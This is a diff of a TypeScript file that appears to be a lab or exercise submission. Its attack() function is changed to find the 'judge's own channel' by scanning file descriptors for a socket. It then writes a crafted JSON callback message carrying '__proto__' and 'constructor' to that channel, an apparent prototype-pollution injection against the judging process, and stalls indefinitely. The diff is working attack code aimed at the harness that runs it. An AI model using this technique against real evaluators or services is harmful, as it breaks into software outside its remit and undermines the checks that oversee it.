@@ -2,10 +2,19 @@
 // lab: 03
 // earns: 0
 // told: judge's own channel
-import { writeSync } from 'node:fs';
+import { fstatSync, writeSync } from 'node:fs';
+
+/** Descriptor 3, or, in a container, the first that is a socket. */
+const channel = Array.from({ length: 60 }, (_, i) => i + 3).find((fd) => {
+  try {
+    return fstatSync(fd).isSocket();
+  } catch {
+    return false;
+  }
+})!;
 
 async function attack(): Promise<void> {
-  writeSync(3, '{"type":"callback","id":1,"call":"__proto__","ref":"constructor","args":[{"$":"callback","v":"constructor"}]}\n');
+  writeSync(channel, '{"type":"callback","id":1,"call":"__proto__","ref":"constructor","args":[{"$":"callback","v":"constructor"}]}\n');
   await new Promise(() => {});
 }
 
